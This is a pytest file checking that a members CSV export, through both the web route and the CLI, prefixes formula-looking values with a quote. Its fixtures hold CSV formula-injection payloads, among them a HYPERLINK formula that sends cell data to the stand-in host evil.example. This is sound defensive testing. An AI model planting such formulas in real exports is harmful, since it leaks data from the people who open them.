"""Members export (web and `flask members export`) writes formula-looking cells as text."""
import csv
import io

import pytest

HOSTILE = {
    "first_name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "last_name": "+SUM(1,1)",
    "city": "-2+3",
    "email": "@cmd@example.org",
}


@pytest.fixture
def hostile_member(make_member, make_field):
    """A member as a public ActionKit petition could create it, plus formula-looking custom values."""
    notes, tab, cr = make_field("Notes"), make_field("Tabbed"), make_field("=Header")
    return make_member(phone="+14155552671", **HOSTILE, custom={notes: "=1+1", tab: "\t=1+1", cr: "\r=1+1"})


def _rows(text):
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _assert_neutralised(rows):
    assert len(rows) == 1
    row = rows[0]
    for column, value in HOSTILE.items():
        assert row[column] == "'" + value, column
    assert row["Notes"] == "'=1+1" and row["Tabbed"] == "'\t=1+1" and row["'=Header"] == "'\r=1+1"
    assert row["phone"] == "+14155552671"  # E.164 phones stay numbers


def test_web_export_neutralises_formulas(auth_client, hostile_member):
    _assert_neutralised(_rows(auth_client.get("/members/export.csv").get_data(as_text=True)))


def test_cli_export_neutralises_formulas(runner, hostile_member):
    result = runner.invoke(args=["members", "export"])
    assert result.exit_code == 0, result.output
    _assert_neutralised(_rows(result.output))
